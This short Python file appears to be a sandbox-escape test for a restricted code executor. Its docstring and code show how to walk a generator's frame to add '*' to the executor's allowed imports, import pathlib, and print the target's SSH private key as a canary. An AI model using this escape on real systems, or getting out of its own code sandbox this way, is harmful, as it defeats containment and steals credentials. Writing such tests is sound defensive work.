"""Walk from a generator to the executor's own variables.

Attempts:  change the list of allowed imports, which is found in the frame of a generator: no name on the way has two
           underscores. Frames are an old way out of Python jails.
Success:   pathlib can be imported, and the canary key is read with it.
Proof:     canary ssh
Runs:      executor
Executor:  lets it through: it is not a security boundary, as its authors say. Here the program reads the key
Container: own file system (FileNotFoundError)
"""

walker = (number for number in [1])
walker.gi_frame.f_locals["authorized_imports"].append("*")
import pathlib

print(pathlib.Path(target["home"], ".ssh/id_ed25519").read_text())
